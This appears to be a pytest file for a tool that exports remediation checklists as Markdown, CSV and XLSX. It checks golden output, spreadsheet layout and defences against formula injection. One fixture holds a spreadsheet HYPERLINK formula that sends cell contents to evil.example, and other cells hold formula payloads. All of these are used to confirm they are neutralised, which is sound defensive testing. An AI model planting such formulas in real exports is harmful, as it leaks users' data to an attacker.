"""Remediation checklists (`merit checklist`): Markdown, CSV and XLSX from the least-effort plan.

Golden files of the example's Markdown and CSV checklists in both languages; regenerate them
after a deliberate change with `MERIT_UPDATE_GOLDEN=1 pytest tests/test_checklist.py` and
read the diff before committing.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from conftest import EXAMPLE
from merit.cli import EXIT_BAD_INPUT, EXIT_OK, main
from merit.engine.i18n import catalog
from merit.engine.pipeline import assess_many
from merit.engine.render import checklist
from merit.engine.render.model import Report
from merit.engine.render.report import build_report
from openpyxl import load_workbook

GOLDEN = Path(__file__).resolve().parent / "golden"
ENGINE = Path(checklist.__file__).resolve().parent
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def _run(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="module")
def reports() -> dict[str, Report]:
    """The example's report in both languages (one assessment: it is the slow part)."""
    [assessment] = assess_many(EXAMPLE, ["kasn-2019"])
    return {lang: build_report(assessment, lang) for lang in ("id", "en")}


@pytest.fixture()
def hostile_dossier(tmp_path: Path) -> Path:
    """The example with an agency name that is a spreadsheet formula."""
    root = tmp_path / "d"
    shutil.copytree(EXAMPLE, root)
    agency = root / "agency.yaml"
    data = yaml.safe_load(agency.read_text("utf-8"))
    data["name"] = INJECTION
    agency.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    return root


def _plan_actions(report: Report) -> int:
    assert report.plan.cheapest is not None
    return sum(len(step.remediation) for step in report.plan.cheapest.steps)


# --- golden files -----------------------------------------------------------------------

@pytest.mark.parametrize(("fmt", "lang"), [("md", "id"), ("md", "en"), ("csv", "id"), ("csv", "en")])
def test_checklist_matches_golden(fmt: str, lang: str) -> None:
    result = _run("checklist", str(EXAMPLE), "--format", fmt, "--lang", lang)
    assert result.exit_code == EXIT_OK, result.output
    golden = GOLDEN / f"checklist.{lang}.{fmt}"
    # Bytes, not text: the CSV's BOM and CRLF line ends are part of what is promised.
    if os.environ.get("MERIT_UPDATE_GOLDEN"):
        golden.write_bytes(result.stdout_bytes)
    assert result.stdout_bytes == golden.read_bytes()


# --- content ----------------------------------------------------------------------------

def test_markdown_has_one_checkbox_per_action_under_its_indicator(reports) -> None:
    report = reports["id"]
    text = checklist.render_markdown(report)
    assert text.count("- [ ] ") == _plan_actions(report)
    for step in report.plan.cheapest.steps:
        heading = text.index(f"({step.indicator})")
        for action in step.remediation:
            assert heading < text.index(action)
    assert "Penanggung jawab: ……" in text and "Tenggat: ……" in text and "Status: ……" in text


def test_csv_has_bom_header_in_the_language_and_a_row_per_action(reports) -> None:
    for lang, owner in (("id", "Penanggung jawab"), ("en", "Person in charge")):
        text = checklist.render_csv(reports[lang])
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";" if lang == "id" else ","))
        assert rows[0] == checklist.header(lang) and owner in rows[0]
        assert len(rows) - 1 == _plan_actions(reports[lang])
        assert all(row[-3:] == ["", "", ""] for row in rows[1:])


def test_unmet_conditions_come_from_the_gap_of_the_step(reports) -> None:
    report = reports["en"]
    for step in checklist.steps(report):
        gap = checklist.gap_closed(report, step)
        assert gap is not None and gap.indicator == step.indicator
        assert gap.next_level == step.from_level + 1
    for item, row in zip(checklist.items(report), checklist.rows(report)):
        assert item.gap is not None
        assert row[8] == "\n".join(u.statement for u in item.gap.unmet)
        assert row[9] == "\n".join(item.gap.evidence)


def test_a_step_above_the_gap_or_without_remediation_still_gets_an_item(reports) -> None:
    report = reports["en"]
    step = report.plan.cheapest.steps[0]
    # No longer starts where the gap list looks, and without remediation.
    moved = replace(step, from_level=step.from_level + 1, remediation=())
    assert checklist.gap_closed(report, moved) is None
    expected = (f"Meet the conditions of level {step.to_level} "
                "(the rule lists no remediation step).")
    assert checklist.actions(moved, "en") == (expected,)


def test_target_already_reached_is_said() -> None:
    for fmt in ("md", "csv"):
        result = _run("checklist", str(EXAMPLE), "--target", "Baik", "--format", fmt)
        assert result.exit_code == EXIT_OK
        said = "Target Baik (>= 250) sudah tercapai dengan total 289"
        assert said in (result.stdout if fmt == "md" else result.stderr)
    assert "- [ ]" not in result.stdout
    csv_text = _run("checklist", str(EXAMPLE), "--target", "Baik", "--format", "csv").stdout
    assert len(list(csv.reader(io.StringIO(csv_text), delimiter=";"))) == 1  # the header only


def test_unreachable_target_is_said_with_the_best_total(reports) -> None:
    report = reports["en"]
    report = replace(report, plan=replace(report.plan, reachable=False, cheapest=None,
                                          fewest_steps=None, best_total=312.5, best_category="Baik"))
    text = checklist.render_markdown(report)
    assert ("The target Very good (>= 325) cannot be reached under this policy: "
            "the best reachable total is 312.5 (Good).") in text
    assert "- [ ]" not in text and checklist.items(report) == []


# --- spreadsheets -----------------------------------------------------------------------

@pytest.mark.parametrize(("lang", "statuses"), [
    ("id", ["Belum mulai", "Sedang berjalan", "Selesai"]),
    ("en", ["Not started", "In progress", "Done"]),
])
def test_xlsx_has_frozen_header_status_dropdown_dates_and_no_formulas(
        tmp_path: Path, reports, lang: str, statuses: list[str]) -> None:
    out = tmp_path / "checklist.xlsx"
    result = _run("checklist", str(EXAMPLE), "--format", "xlsx", "--output", str(out), "--lang", lang)
    assert result.exit_code == EXIT_OK, result.output
    workbook = load_workbook(out)
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == checklist.header(lang)
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row - 1 == _plan_actions(reports[lang])
    assert sheet.column_dimensions["H"].width == 34  # the action column: wide enough to read, narrow enough to print (checklist._WIDTHS)
    assert sheet["H2"].alignment.wrap_text
    validations = {str(v.sqref).split(":")[0][0]: v for v in sheet.data_validations.dataValidation}
    status = validations["M"]  # the status column
    assert status.type == "list" and status.formula1.strip('"').split(",") == statuses
    assert str(status.sqref) == f"M2:M{sheet.max_row + checklist.SPARE_ROWS}"  # and rows the team adds
    assert validations["L"].type == "date" and sheet["L2"].is_date
    assert isinstance(sheet["F2"].value, (int, float))  # points are numbers, not text
    _assert_no_formulas(workbook)
    assert [p.name for p in tmp_path.iterdir()] == ["checklist.xlsx"]  # no temp file left


def test_xlsx_without_output_exits_2_with_a_message() -> None:
    result = _run("checklist", str(EXAMPLE), "--format", "xlsx", "--lang", "en")
    assert result.exit_code == EXIT_BAD_INPUT
    assert "--format xlsx needs --output FILE" in result.stderr
    assert "Traceback" not in result.output and result.stdout == ""


def test_output_files_are_atomic_and_inputs_untouched(tmp_path: Path) -> None:
    dossier = tmp_path / "d"
    shutil.copytree(EXAMPLE, dossier)
    before = {p: p.read_bytes() for p in dossier.rglob("*") if p.is_file()}
    out = tmp_path / "out"
    out.mkdir()
    for fmt in ("md", "csv", "xlsx"):
        target = out / f"checklist.{fmt}"
        target.write_text("old", "utf-8")  # replaced whole, never appended to
        assert _run("checklist", str(dossier), "--format", fmt, "-o", str(target)).exit_code == EXIT_OK
        assert target.read_bytes() != b"old"
    assert (out / "checklist.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert sorted(p.name for p in out.iterdir()) == ["checklist.csv", "checklist.md", "checklist.xlsx"]
    refused = _run("checklist", str(dossier), "--format", "xlsx", "-o", str(dossier / "agency.yaml"))
    assert refused.exit_code == EXIT_BAD_INPUT
    assert {p: p.read_bytes() for p in dossier.rglob("*") if p.is_file()} == before


# --- formula injection ------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", INJECTION])
def test_neutralise_prefixes_an_apostrophe(text: str) -> None:
    assert checklist.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Tetapkan pedoman", "1.1", "'quoted", "a=b", ""])
def test_neutralise_leaves_other_text_alone(text: str) -> None:
    assert checklist.neutralise(text) == text


def _hostile_report(dossier: Path, lang: str) -> Report:
    """The copied dossier's report, with rule text turned hostile too (rules are shipped,
    so the test edits the report: the renderers must not trust either source)."""
    [assessment] = assess_many(dossier, ["kasn-2019"])
    report = build_report(assessment, lang)
    cheapest = report.plan.cheapest
    assert cheapest is not None
    first = replace(cheapest.steps[0], remediation=(INJECTION, "@cmd", "-2+3"))
    gap = report.gap(first.indicator)
    assert gap is not None
    hostile = replace(gap, unmet=(replace(gap.unmet[0], statement="+SUM(1,2)"), *gap.unmet[1:]),
                      evidence=("=1+1",))
    plan = replace(report.plan, cheapest=replace(cheapest, steps=(first, *cheapest.steps[1:])))
    return replace(report, plan=plan, gaps=tuple(hostile if g is gap else g for g in report.gaps))


def test_formula_injection_is_neutralised_in_csv(hostile_dossier: Path) -> None:
    report = _hostile_report(hostile_dossier, "id")
    rows = list(csv.reader(io.StringIO(checklist.render_csv(report)[1:]), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + INJECTION in cells and "'@cmd" in cells and "'-2+3" in cells
    assert "'+SUM(1,2)" in cells and "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(checklist._FORMULA_STARTS)]


def test_formula_injection_is_neutralised_in_xlsx(hostile_dossier: Path, tmp_path: Path) -> None:
    # Through the command: the agency name from the dossier lands in the summary sheet.
    out = tmp_path / "c.xlsx"
    assert _run("checklist", str(hostile_dossier), "--format", "xlsx", "-o", str(out)).exit_code == EXIT_OK
    summary = load_workbook(out).worksheets[1]
    assert summary["B1"].value == "'" + INJECTION and summary["B1"].data_type == "s"
    _assert_no_formulas(load_workbook(out))
    # Rule text: remediation, unmet conditions and evidence in the checklist sheet.
    workbook = load_workbook(io.BytesIO(checklist.render_xlsx(_hostile_report(hostile_dossier, "id"))))
    values = [c.value for row in workbook.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert "'" + INJECTION in values and "'@cmd" in values and "'+SUM(1,2)" in values
    _assert_no_formulas(workbook)


def _assert_no_formulas(workbook: Any) -> None:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(checklist._FORMULA_STARTS), cell.coordinate


# --- messages ---------------------------------------------------------------------------

def test_every_checklist_message_code_used_exists_in_both_languages() -> None:
    sources = (ENGINE / "checklist.py").read_text("utf-8")
    sources += (ENGINE / "templates" / "checklist.md.j2").read_text("utf-8")
    used = set(re.findall(r"[\"'](checklist\.[a-z_.]+)[\"']", sources))
    used |= {f"checklist.col.{column}" for column in checklist.COLUMNS}
    missing = [code for code in sorted(used) if code not in catalog()]
    assert missing == []
    assert all(set(catalog()[code]) == {"id", "en"} for code in used)


@pytest.mark.parametrize("lang", ["id", "en"])
def test_every_xlsx_sheet_prints_on_a4_one_page_wide(tmp_path: Path, lang: str) -> None:
    out = tmp_path / "checklist.xlsx"
    assert _run("checklist", str(EXAMPLE), "--format", "xlsx", "-o", str(out), "--lang", lang).exit_code == EXIT_OK
    workbook = load_workbook(out)
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert str(setup.paperSize) == "9"  # A4
        assert setup.fitToWidth == 1 and setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
    items = workbook.worksheets[0]
    assert items.page_setup.orientation == "landscape" and items.print_title_rows == "$1:$1"
    for row in range(2, items.max_row + 1):  # tall enough for the wrapped unmet conditions
        unmet = str(items.cell(row=row, column=9).value or "")
        assert items.row_dimensions[row].height >= 15 * (unmet.count("\n") + 1)


def test_csv_separator_follows_the_language_or_the_option() -> None:
    id_text = _run("checklist", str(EXAMPLE), "--format", "csv").stdout
    en_text = _run("checklist", str(EXAMPLE), "--format", "csv", "--lang", "en").stdout
    comma = _run("checklist", str(EXAMPLE), "--format", "csv", "--csv-delimiter", ",").stdout
    tab = _run("checklist", str(EXAMPLE), "--format", "csv", "--csv-delimiter", "tab").stdout
    assert id_text.splitlines()[0].count(";") == 12 and en_text.splitlines()[0].count(",") == 12
    assert comma.splitlines()[0].count(",") == 12 and tab.splitlines()[0].count("\t") == 12
